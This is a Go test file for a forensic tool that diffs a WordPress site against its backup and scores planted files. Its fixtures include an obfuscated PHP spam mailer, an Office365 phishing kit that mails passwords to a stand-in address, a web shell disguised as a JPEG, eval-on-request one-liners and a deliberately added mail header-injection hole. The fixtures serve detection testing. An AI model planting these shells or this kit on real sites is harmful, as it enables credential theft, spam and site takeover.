package sitediff

import (
	"bytes"
	"compress/flate"
	"encoding/base64"
	"errors"
	"fmt"
	"io/fs"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"
)

// t0 is when the site was deployed and backed up: backups keep mtimes.
var t0 = time.Date(2026, 10, 1, 12, 0, 0, 0, time.UTC)

// writeTree writes files (path → content) under root, all with mtime t0.
func writeTree(t testing.TB, root string, files map[string]string) {
	t.Helper()
	for p, content := range files {
		writeFile(t, root, p, content, t0)
	}
}

func writeFile(t testing.TB, root, p, content string, mtime time.Time) {
	t.Helper()
	full := filepath.Join(root, filepath.FromSlash(p))
	if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(full, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Chtimes(full, mtime, mtime); err != nil {
		t.Fatal(err)
	}
}

// jpeg is a few bytes that start like a JPEG.
func jpeg(seed uint64) string {
	r := rand.New(rand.NewPCG(seed, 7))
	b := []byte("\xff\xd8\xff\xe0\x00\x10JFIF\x00")
	for range 2000 {
		b = append(b, byte(r.Uint32()))
	}
	return string(b)
}

// wordpress is a small WordPress-like site.
func wordpress() map[string]string {
	logo := base64.StdEncoding.EncodeToString(append([]byte("\x89PNG\r\n\x1a\n"), bytes.Repeat([]byte{9, 8, 7, 200}, 700)...))
	return map[string]string{
		"index.php":                    "<?php\ndefine('WP_USE_THEMES', true);\nrequire __DIR__ . '/wp-blog-header.php';\n",
		"wp-blog-header.php":           "<?php\nif (!isset($wp_did_header)) {\n\t$wp_did_header = true;\n\trequire_once __DIR__ . '/wp-load.php';\n\twp();\n}\n",
		"wp-load.php":                  "<?php\ndefine('ABSPATH', __DIR__ . '/');\nrequire_once ABSPATH . 'wp-config.php';\n",
		"wp-config.php":                "<?php\ndefine('DB_NAME', 'shop1');\ndefine('DB_USER', 'shop1');\ndefine('DB_PASSWORD', 'secret');\n$table_prefix = 'wp_';\n",
		"wp-includes/version.php":      "<?php\n$wp_version = '6.9';\n",
		"wp-includes/class-wp.php":     "<?php\nclass WP {\n\tpublic function main($query_args = '') {\n\t\t$this->init();\n\t\t// Sends mail through wp_mail() when asked to.\n\t}\n}\n",
		"wp-includes/pluggable.php":    "<?php\nfunction wp_mail($to, $subject, $message, $headers = '') {\n\tglobal $phpmailer;\n\t$phpmailer->addAddress($to);\n\treturn $phpmailer->send();\n}\n",
		"wp-includes/js/jquery.min.js": "/*! jQuery */\n!function(e){return e}(window);\n",
		"wp-content/index.php":         "<?php\n// Silence is golden.\n",
		"wp-content/plugins/hello.php": "<?php\n/* Plugin Name: Hello Dolly */\nfunction hello_dolly() { echo 'Hello, Dolly'; }\n",
		"wp-content/plugins/simple-contact/simple-contact.php": `<?php
/* Plugin Name: Simple Contact */
function simple_contact_send() {
	$from = sanitize_email($_POST['email']);
	$body = sanitize_textarea_field($_POST['message']);
	$headers = 'From: ' . get_option('admin_email');
	mail(get_option('admin_email'), 'Contact form', $body, $headers);
}
`,
		"wp-content/themes/twentysix/functions.php":    "<?php\nadd_action('after_setup_theme', function () { add_theme_support('title-tag'); });\n",
		"wp-content/themes/twentysix/header.php":       "<!doctype html>\n<html><head><?php wp_head(); ?></head>\n<body><img alt=\"logo\" src=\"data:image/png;base64," + logo + "\">\n",
		"wp-content/themes/twentysix/style.css":        "body { color: #222; }\n",
		"wp-content/uploads/2026/11/beach.jpg":         jpeg(1),
		"wp-content/uploads/2026/11/beach-300x200.jpg": jpeg(2),
		"wp-content/uploads/2026/10/team.jpg":          jpeg(3),
		"contact.php": `<?php
$to = 'info@shop1.example';
if (!empty($_POST['message'])) {
	$from = filter_var($_POST['email'], FILTER_VALIDATE_EMAIL);
	$headers = 'From: ' . $to . "\r\n" . 'Reply-To: ' . $from;
	mail($to, 'Contact form', $_POST['message'], $headers);
}
`,
	}
}

// The planted files: what a spam run leaves behind.
const (
	mailerPath   = "wp-content/uploads/2026/11/wp-cache-4f2a.php"
	phishingPath = "images/office365/post.php"
	disguisePath = "wp-content/uploads/2026/11/thumb.jpg"
)

// obfuscatedMailer is a mailer as they are found: a compressed, encoded
// payload run by eval, and a loop mailing whom the request names.
func obfuscatedMailer() string {
	var z bytes.Buffer
	w, _ := flate.NewWriter(&z, flate.BestCompression)
	r := rand.New(rand.NewPCG(3, 4))
	for range 2400 {
		fmt.Fprintf(w, "%c", 'a'+r.IntN(26)) // incompressible enough to stay long
	}
	w.Close()
	encoded := base64.StdEncoding.EncodeToString(z.Bytes())
	return `<?php
@error_reporting(0); @ini_set('display_errors', 0); @set_time_limit(0);
$_k = '` + encoded + `';
@eval(gzinflate(base64_decode($_k)));
if (isset($_POST['emails'])) {
	$list = explode("\n", $_POST['emails']);
	$from = $_POST['from'];
	foreach ($list as $email) {
		$email = trim($email);
		if ($email == '') continue;
		$headers = "From: " . $from . "\r\nContent-Type: text/html\r\n";
		if (@mail($email, $_POST['subject'], $_POST['body'], $headers)) { echo "OK: $email<br>"; }
		flush();
	}
}
`
}

const phishingKit = `<?php
$ip = $_SERVER['REMOTE_ADDR'];
$message  = "--- Office365 Login ---\n";
$message .= "Email: " . $_POST['login'] . "\n";
$message .= "Password: " . $_POST['password'] . "\n";
$message .= "IP: " . $ip . "\n";
$send = "drop.box.2026@gmail.example";
mail($send, "New Login from $ip", $message);
$fp = fopen("results.txt", "a");
fputs($fp, $message);
fclose($fp);
header("Location: https://login.microsoftonline.com/");
`

// spamRun writes a WordPress site and its snapshot, then plants a mailer
// in uploads, a phishing kit in images, a disguised shell, a header
// injection hole in contact.php and removes a plugin.
func spamRun(t testing.TB) (site, snapshot string) {
	t.Helper()
	site, snapshot = filepath.Join(t.TempDir(), "site"), filepath.Join(t.TempDir(), "snapshot")
	writeTree(t, site, wordpress())
	writeTree(t, snapshot, wordpress())
	planted := time.Date(2026, 11, 21, 3, 14, 0, 0, time.UTC)
	writeFile(t, site, mailerPath, obfuscatedMailer(), planted)
	writeFile(t, site, phishingPath, phishingKit, planted)
	writeFile(t, site, "images/office365/index.html", "<form action=\"post.php\" method=\"post\"><input name=\"password\" type=\"password\"></form>", planted)
	writeFile(t, site, disguisePath, "GIF89a\x01\x00\x01\x00\x80\x00\x00<?php @eval($_POST['x']); ?>", planted)
	contact := strings.Replace(wordpress()["contact.php"], `	$from = filter_var($_POST['email'], FILTER_VALIDATE_EMAIL);
	$headers = 'From: ' . $to . "\r\n" . 'Reply-To: ' . $from;`, `	$headers = "From: " . $_POST['name'] . " <" . $_POST['email'] . ">\r\n";`, 1)
	writeFile(t, site, "contact.php", contact, planted)
	if err := os.Remove(filepath.Join(site, "wp-content/plugins/hello.php")); err != nil {
		t.Fatal(err)
	}
	return site, snapshot
}

// byPath returns the listed file at p, or nil.
func byPath(r *Report, p string) *File {
	for i := range r.Files {
		if r.Files[i].Path == p {
			return &r.Files[i]
		}
	}
	return nil
}

func markerNames(f *File) []string {
	var names []string
	for _, m := range f.Markers {
		names = append(names, m.Name)
	}
	return names
}

func TestCompareSpamRun(t *testing.T) {
	site, snapshot := spamRun(t)
	r, err := Compare(site, snapshot)
	if err != nil {
		t.Fatal(err)
	}
	for i, f := range r.Files {
		t.Logf("%d. %-45s %-9s %6.1f %v %v", i+1, f.Path, f.Change, f.Score, markerNames(&f), f.Why)
	}
	if len(r.Files) == 0 || r.Files[0].Path != mailerPath {
		t.Fatalf("the mailer does not rank first")
	}
	for _, want := range []struct {
		path    string
		change  Change
		markers []string
	}{
		{mailerPath, New, []string{"eval-decoded", "long-encoded", "mail-loop", "mail-recipient-from-request", "header-injection", "php-in-upload-dir"}},
		{phishingPath, New, []string{"password-mailed", "results-log", "mail-call", "php-in-upload-dir"}},
		{disguisePath, New, []string{"php-disguised", "eval-request"}},
		{"contact.php", Changed, []string{"header-injection", "mail-call"}},
		{"wp-content/plugins/hello.php", Removed, nil},
		{"images/office365/index.html", New, nil},
	} {
		f := byPath(r, want.path)
		if f == nil {
			t.Errorf("%s is not listed", want.path)
			continue
		}
		if f.Change != want.change || len(f.Why) == 0 {
			t.Errorf("%s: %s, why %q; want %s", want.path, f.Change, f.Why, want.change)
		}
		for _, m := range want.markers {
			if !slices.Contains(markerNames(f), m) {
				t.Errorf("%s lacks marker %s: %v", want.path, m, markerNames(f))
			}
		}
	}
	if f := byPath(r, disguisePath); f != nil && !f.PHP {
		t.Errorf("the disguised script is not seen as PHP")
	}
	// Unchanged files without strong markers are not listed by default.
	for _, p := range []string{"wp-content/plugins/simple-contact/simple-contact.php", "wp-includes/pluggable.php", "index.php", "wp-content/themes/twentysix/header.php"} {
		if f := byPath(r, p); f != nil {
			t.Errorf("unchanged %s is listed: %+v", p, f)
		}
	}
	st := r.Stats
	if st.New != 4 || st.Changed != 1 || st.Removed != 1 || st.SiteFiles != 21 || st.SnapshotFiles != 18 || st.Hashed != 0 || st.Skipped != 0 || st.Scanned < 10 {
		t.Errorf("stats %+v", st)
	}

	all, err := CompareWithOptions(site, snapshot, &Options{All: true})
	if err != nil {
		t.Fatal(err)
	}
	plugin := slices.IndexFunc(all.Files, func(f File) bool { return f.Path == "wp-content/plugins/simple-contact/simple-contact.php" })
	if plugin < 0 {
		t.Fatalf("--all does not list the contact plugin")
	}
	if f := all.Files[plugin]; f.Change != Unchanged || f.Score <= 0 || f.Score >= all.Files[0].Score || all.Files[0].Path != mailerPath || !slices.Contains(f.Why, "unchanged, with markers") {
		t.Errorf("plugin %+v ranks against the mailer %+v", f, all.Files[0])
	}
	for _, f := range all.Files[:4] {
		if f.Change != New && f.Change != Changed {
			t.Errorf("an unchanged file ranks among the first four: %+v", f)
		}
	}
}

func TestCompareFirst(t *testing.T) {
	site, snapshot := spamRun(t)
	r, err := CompareWithOptions(site, snapshot, &Options{First: []string{"contact.php", "simple-contact.php", "./wp-content/plugins/hello.php", "gone.php"}})
	if err != nil {
		t.Fatal(err)
	}
	var named []string
	for _, f := range r.Files {
		if f.Named {
			named = append(named, f.Path)
			if f.Why[0] != "named by the incident" {
				t.Errorf("%s: why %q", f.Path, f.Why)
			}
		}
	}
	slices.Sort(named)
	want := []string{"contact.php", "wp-content/plugins/hello.php", "wp-content/plugins/simple-contact/simple-contact.php"}
	if !slices.Equal(named, want) {
		t.Errorf("named %q, want %q", named, want)
	}
	for i, f := range r.Files {
		if f.Named != (i < 3) {
			t.Errorf("%d. %s named %v", i+1, f.Path, f.Named)
		}
	}
	if !slices.Equal(r.NotFound, []string{"gone.php"}) {
		t.Errorf("not found %q", r.NotFound)
	}
}

func TestCompareContents(t *testing.T) {
	site, snapshot := filepath.Join(t.TempDir(), "a"), filepath.Join(t.TempDir(), "b")
	files := map[string]string{"touched.php": "<?php echo 1;\n", "swapped.php": "<?php echo 1;\n", "sneaky.php": "<?php echo 1;\n"}
	writeTree(t, site, files)
	writeTree(t, snapshot, files)
	later := t0.Add(time.Hour)
	writeFile(t, site, "touched.php", "<?php echo 1;\n", later)                        // same contents, new mtime
	writeFile(t, site, "swapped.php", "<?php echo 2;\n", later)                        // same size, new mtime
	writeFile(t, site, "sneaky.php", "<?php eval($_GET[1]);", t0)                      // mtime set back
	writeFile(t, snapshot, "sneaky.php", "<?php echo 1;\n"+strings.Repeat(" ", 7), t0) // … and the size matched
	r, err := Compare(site, snapshot)
	if err != nil {
		t.Fatal(err)
	}
	if f := byPath(r, "touched.php"); f != nil {
		t.Errorf("touched.php is listed: %+v", f)
	}
	if f := byPath(r, "swapped.php"); f == nil || f.Change != Changed || !slices.Contains(f.Why, "changed: same size, other contents") {
		t.Errorf("swapped.php: %+v", f)
	}
	// Without Content, equal size and mtime are trusted; the sneaky file
	// shows only because of its strong marker.
	if f := byPath(r, "sneaky.php"); f == nil || f.Change != Unchanged || !slices.Contains(f.Why, "unchanged, with strong markers") {
		t.Errorf("sneaky.php: %+v", f)
	}
	if r.Stats.Hashed != 4 {
		t.Errorf("hashed %d, want 4", r.Stats.Hashed)
	}
	r, err = CompareWithOptions(site, snapshot, &Options{Content: true})
	if err != nil {
		t.Fatal(err)
	}
	if f := byPath(r, "sneaky.php"); f == nil || f.Change != Changed {
		t.Errorf("sneaky.php with Content: %+v", f)
	}
	if r.Stats.Hashed != 6 {
		t.Errorf("hashed %d with Content, want 6", r.Stats.Hashed)
	}
}

func TestCompareMaxScan(t *testing.T) {
	site, snapshot := t.TempDir(), t.TempDir()
	padded := "<?php\n" + strings.Repeat("// padding\n", 2000) + "eval($_POST['c']);\n"
	writeFile(t, site, "big.php", padded, t0)
	r, err := CompareWithOptions(site, snapshot, &Options{MaxScan: 1000})
	if err != nil {
		t.Fatal(err)
	}
	if f := byPath(r, "big.php"); f == nil || len(f.Markers) != 0 {
		t.Errorf("scanned past MaxScan: %+v", f)
	}
	r, _ = Compare(site, snapshot)
	if f := byPath(r, "big.php"); f == nil || find(f.Markers, "eval-request") == nil {
		t.Errorf("not scanned: %+v", f)
	}
}

func TestCompareBadRoots(t *testing.T) {
	dir := t.TempDir()
	file := filepath.Join(dir, "file")
	writeFile(t, dir, "file", "x", t0)
	for _, tc := range []struct{ site, snapshot string }{
		{filepath.Join(dir, "missing"), dir},
		{dir, filepath.Join(dir, "missing")},
		{file, dir},
	} {
		if _, err := Compare(tc.site, tc.snapshot); !IsRootError(err) {
			t.Errorf("Compare(%s, %s): %v", tc.site, tc.snapshot, err)
		}
	}
	// An unreadable root is an error too.
	o := &Options{readDir: func(name string) ([]os.DirEntry, error) {
		return nil, &fs.PathError{Op: "open", Path: name, Err: syscall.EACCES}
	}}
	if _, err := CompareWithOptions(dir, dir, o); !IsRootError(err) || !errors.Is(err, syscall.EACCES) || err.Error() != "sitediff: site root: open "+dir+": permission denied" {
		t.Errorf("unreadable root: %v", err)
	}
}
